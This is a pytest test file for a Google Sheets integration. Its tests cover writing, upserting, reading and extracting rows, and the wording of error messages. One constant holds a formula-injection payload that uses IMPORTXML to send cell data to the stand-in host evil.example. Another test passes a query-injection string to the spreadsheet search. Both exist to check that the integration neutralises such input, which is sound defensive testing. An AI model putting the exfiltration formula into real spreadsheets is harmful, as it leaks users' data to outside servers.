"""Rows of Google Sheets: written as they are, by a key, all of a batch in one call; and what is said when a sheet is not as expected."""

from __future__ import annotations

from typing import Any

import pytest

from cargo_ai.integrations.google_sheets import rows as rows_module
from cargo_ai.integrations.kit import Done, Failed, Outcome, ServiceError
from tests.integrations.storage.google_sheets_subject import SUBJECT, fill, of_people, rows_in, upsert
from tests.kit.conformance.fixtures import Fixtures
from tests.kit.conformance.harness import Harness
from tests.simulators.google_sheets.control import SPREADSHEET, Sheet

Json = Any
INJECTED = '=IMPORTXML("https://evil.example/?"&A1,"/")'


async def _act(harness: Harness, slug: str, *configs: dict[str, Json]) -> list[Outcome]:
    action = harness.integration.action(slug)
    assert action is not None
    if action.rows is not None:
        return [*await harness.act_on_rows(action, configs)]
    return [await harness.act(action, config) for config in configs]


async def _done(harness: Harness, slug: str, config: dict[str, Json]) -> Json:
    (outcome,) = await _act(harness, slug, config)
    assert isinstance(outcome, Done), outcome
    return outcome.output


async def _failed(harness: Harness, slug: str, config: dict[str, Json]) -> str:
    (outcome,) = await _act(harness, slug, config)
    assert isinstance(outcome, Failed), outcome
    return outcome.message


class TestWriting(Fixtures):
    """Rows that are written."""

    subject = SUBJECT

    async def test_no_text_becomes_a_formula_unless_that_is_asked_for(self, harness: Harness) -> None:
        await _done(harness, "appendRow", of_people(values={"Email": INJECTED, "Note": "+49 30 1", "Score": 2, "Name": True}))
        assert rows_in(harness.control)[3] == [INJECTED, True, 2, "+49 30 1"]
        await _done(harness, "upsertRow", upsert(Note="=1+1"))
        assert harness.control.people.cells[(1, 3)] == "=1+1"
        await _done(harness, "upsertRow", upsert(Note="=1+1") | {"formulas": True})
        assert harness.control.people.cells[(1, 3)] == {"formula": "=1+1"}
        await _done(harness, "upsertRow", upsert("=HYPERLINK(1)", Name="Key") | {"formulas": True})
        assert rows_in(harness.control)[4] == ["=HYPERLINK(1)", "Key"]

    async def test_columns_that_are_not_named_are_left_alone(self, harness: Harness) -> None:
        people = harness.control.people
        people.put(0, ["Email", "", "Score", "Note", "", "City"])
        people.put(1, ["", "a comment"])
        output = await _done(harness, "upsertRow", upsert(Score=9, City="Ulm"))
        assert output["operation"] == "updated" and output["rowNumbers"] == [2] and output["url"].endswith("#gid=0&range=2:2")
        assert people.row(1, 0, 9) == ["ada@example.com", "a comment", 9, "", "", "Ulm"]
        await _done(harness, "appendRow", of_people(values={"City": "Bonn", "Email": "eve@example.com"}))
        assert people.row(3, 0, 9) == ["eve@example.com", "", "", "", "", "Bonn"]

    async def test_null_leaves_a_cell_and_clears_it_where_that_is_asked_for(self, harness: Harness) -> None:
        await _done(harness, "upsertRow", upsert("bob@example.com", Note=None, Name=""))
        assert rows_in(harness.control)[2] == ["bob@example.com", "Bob", 1.5, "x"]
        await _done(harness, "upsertRow", upsert("bob@example.com", Note=None, Name="") | {"writeNulls": True})
        assert rows_in(harness.control)[2] == ["bob@example.com", "", 1.5]

    async def test_rows_of_a_batch_go_in_one_call_and_a_key_is_added_once(self, harness: Harness) -> None:
        wanted = [
            upsert("eve@example.com", Name="Eve"),
            upsert(Score=4),
            upsert("eve@example.com", Score=1),
            upsert("zoe@example.com", Name="Zoe"),
        ]
        outcomes = await _act(harness, "upsertRow", *wanted)
        assert [outcome.output["operation"] for outcome in outcomes if isinstance(outcome, Done)] == [
            "created",
            "updated",
            "updated",
            "created",
        ]
        assert rows_in(harness.control)[1:] == [
            ["ada@example.com", "Ada", 4],
            ["bob@example.com", "Bob", 1.5, "x"],
            ["eve@example.com", "Eve", 1],
            ["zoe@example.com", "Zoe"],
        ]
        assert [seen.method for seen in harness.control.sent()] == ["GET", "GET", "POST"]
        # Again, as after an answer that was lost.
        await _act(harness, "upsertRow", *wanted)
        assert len(rows_in(harness.control)) == 5

    async def test_a_number_and_its_text_are_one_key_and_a_key_is_written_as_it_was_given(self, harness: Harness) -> None:
        by_score: dict[str, Json] = {"matchingColumn": "Score"}
        output = await _done(harness, "upsertRow", of_people(matchingValue="3", values={"Name": "Three"}) | by_score)
        assert output["rowNumbers"] == [2]
        await _done(harness, "upsertRow", of_people(matchingValue=8, values={"Name": "Eight"}) | by_score)
        assert rows_in(harness.control)[3] == ["", "Eight", 8]

    async def test_what_is_done_when_a_row_exists_is_a_choice(self, harness: Harness) -> None:
        skipped = await _done(harness, "upsertRow", upsert(Name="X") | {"matchPolicy": "createOnly"})
        assert (skipped["operation"], skipped["reason"]) == ("skipped", "The row exists.")
        missing = await _done(harness, "upsertRow", upsert("new@example.com", Name="X") | {"matchPolicy": "updateOnly"})
        assert missing["operation"] == "skipped" and "Email is new@example.com" in missing["reason"]
        assert await _done(harness, "updateRows", upsert("new@example.com", Name="X")) == missing
        assert harness.control.sent("POST") == []

    async def test_several_rows_with_a_key_are_updated_together_or_not_at_all(self, harness: Harness) -> None:
        harness.control.people.append(["ada@example.com", "Ada again"])
        assert "it is unclear which" in await _failed(harness, "upsertRow", upsert(Name="X"))
        output = await _done(harness, "updateRows", upsert(Score=0))
        assert output["rowNumbers"] == [2, 4]
        assert [row[2] for row in rows_in(harness.control)[1:]] == [0, 1.5, 0]

    async def test_a_key_that_the_values_change_is_refused_where_a_row_may_be_added(self, harness: Harness) -> None:
        renamed = upsert(Email="other@example.com")
        assert "would not find the row" in await _failed(harness, "upsertRow", renamed)
        await _done(harness, "updateRows", renamed)
        assert rows_in(harness.control)[1][0] == "other@example.com"

    async def test_what_cannot_be_written_fails_alone_before_anything_is_sent(self, harness: Harness) -> None:
        rows = [upsert(Name="x" * 50_001), upsert(None, Name="x"), upsert("eve@example.com", Name={"a": [1]})]
        long, empty, written = await _act(harness, "upsertRow", *rows)
        assert isinstance(long, Failed) and "`values.Name`: a cell holds at most 50000" in long.message
        assert isinstance(empty, Failed) and "`matchingValue` is empty" in empty.message
        assert isinstance(written, Done) and rows_in(harness.control)[3] == ["eve@example.com", '{"a": [1]}']

    async def test_a_sheet_whose_columns_are_not_clear_is_refused(self, harness: Harness) -> None:
        harness.control.people.put(0, ["Email", "Name", "Name"])
        assert "several columns Name" in await _failed(harness, "upsertRow", upsert(Name="X"))
        second = {"sheetName": "It's empty"}
        assert "Row 1 of the sheet It's empty names no columns" in await _failed(harness, "upsertRow", upsert(Name="X") | second)

    async def test_a_quoted_sheet_with_its_header_further_down(self, harness: Harness) -> None:
        sheet = harness.control.spreadsheets[SPREADSHEET].sheets[1]
        sheet.put(0, ["A title"])
        sheet.put(2, ["Email", "Name"])
        config = upsert("eve@example.com", Name="Eve") | {"sheetName": "It's empty", "headerRow": 3}
        await _done(harness, "upsertRow", config)
        assert sheet.row(3, 0, 5) == ["eve@example.com", "Eve"]


class TestReading(Fixtures):
    """Rows that are read."""

    subject = SUBJECT

    async def test_a_range_is_read_by_its_header_or_by_letters(self, harness: Harness) -> None:
        output = await _done(harness, "readRange", of_people())
        assert output["columns"] == ["Email", "Name", "Score", "Note"] and output["rowsCount"] == 2 and not output["hasMore"]
        assert output["rows"][0] == {"Email": "ada@example.com", "Name": "Ada", "Score": 3, "Note": None}
        part = await _done(harness, "readRange", of_people(range="B2:C3", hasHeader=False))
        assert part["rows"] == [{"B": "Ada", "C": 3}, {"B": "Bob", "C": 1.5}]
        shown = await _done(harness, "readRange", {"spreadsheetId": SPREADSHEET, "range": "B1:C", "formatted": True, "limit": 1})
        assert shown == {"columns": ["Name", "Score"], "rows": [{"Name": "Ada", "Score": "3"}], "rowsCount": 1, "hasMore": True}

    async def test_a_range_behind_the_end_of_the_sheet_is_refused(self, harness: Harness) -> None:
        assert "Max rows: 1000" in await _failed(harness, "readRange", of_people(range="A2000:B"))
        assert "has 1000 rows and 26 columns" in await _failed(harness, "readRange", of_people(range="ZZ1:ZZ2", hasHeader=False))

    async def test_rows_are_found_with_their_numbers(self, harness: Harness) -> None:
        harness.control.people.append(["bob@example.com", "Bob the second"])
        output = await _done(harness, "findRows", of_people(matchingColumn="Email", matchingValue=" bob@example.com", limit=5))
        assert [row["rowNumber"] for row in output["rows"]] == [3, 4] and output["rowsCount"] == 2
        nothing = await _done(harness, "findRows", of_people(matchingColumn="Email", matchingValue="no@example.com"))
        assert nothing == {"found": False, "rowsCount": 0, "rows": []}

    async def test_refusals_say_what_to_do(self, harness: Harness) -> None:
        config = of_people()
        harness.control.spreadsheets[SPREADSHEET].is_shared = False
        assert "share the spreadsheet" in await _failed(harness, "readRange", config)
        assert "is not shared with the account" in await _failed(harness, "readRange", config | {"spreadsheetId": "nope"})
        harness.control.api_enabled = False
        assert "enable it at https://console.cloud.google.com" in await _failed(harness, "readRange", config)
        verification = harness.integration.account.verification
        assert verification is not None
        with pytest.raises(ServiceError, match="not enabled"):
            await verification.verify(harness.service())

    async def test_spreadsheets_are_looked_for_by_drive(self, harness: Harness) -> None:
        offered = harness.integration.autocompletes["listSpreadsheets"]
        assert [choice.value for choice in await offered.perform(harness.form_request(), {}, "lea")] == [SPREADSHEET]
        assert await offered.perform(harness.form_request(), {}, "o'Brien' or name != '") == []
        sheets = await harness.integration.autocompletes["listSheets"].perform(harness.form_request(), {"spreadsheetId": SPREADSHEET}, None)
        assert [choice.value for choice in sheets] == ["People", "It's empty"]


class TestModels(Fixtures):
    """Rows that fill a model."""

    subject = SUBJECT
    config: dict[str, Json] = {"spreadsheetId": SPREADSHEET, "sheetName": "People", "keyColumn": "Column 0"}  # noqa: RUF012

    async def test_rows_that_move_between_pages_are_neither_lost_nor_given_twice(
        self, harness: Harness, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(rows_module, "LOOK_BACK", 5)
        (extractor,) = harness.integration.extractors
        keys = fill(harness.control, 600)
        sheet: Sheet = harness.control.people
        for shift in (-3, 2):
            read: list[str] = []
            async for page in harness.walk(extractor, self.config):
                read += [str(record["Column 0"]) for record in page.records]
                if len(read) < 300:
                    # Rows above are removed or inserted while the list is read.
                    sheet.cells = {(row + shift if row > 3 else row, column): value for (row, column), value in sheet.cells.items()}
                    sheet.rows = 700
            there = {row[0] for row in sheet.values() if row}
            left = [key for key in keys if key in there]
            assert [key for key in read if key in left] == left and len(set(read)) == len(read)

    async def test_types_follow_from_the_first_rows_and_rows_without_a_key_are_left_out(self, harness: Harness) -> None:
        (extractor,) = harness.integration.extractors
        harness.control.people.append(["", "No one", "many"])
        harness.control.people.append(["ada@example.com", "Ada again", 5])
        config: dict[str, Json] = of_people(keyColumn="Email")
        shape = await extractor.shape_for(harness.extract_request(extractor, config))
        assert {column.name: column.type for column in shape.columns} == dict.fromkeys(("Email", "Name", "Score", "Note"), "string")
        pages = await harness.extract(extractor, config)
        assert [record["Name"] for page in pages for record in page.records] == ["Ada again", "Bob"]
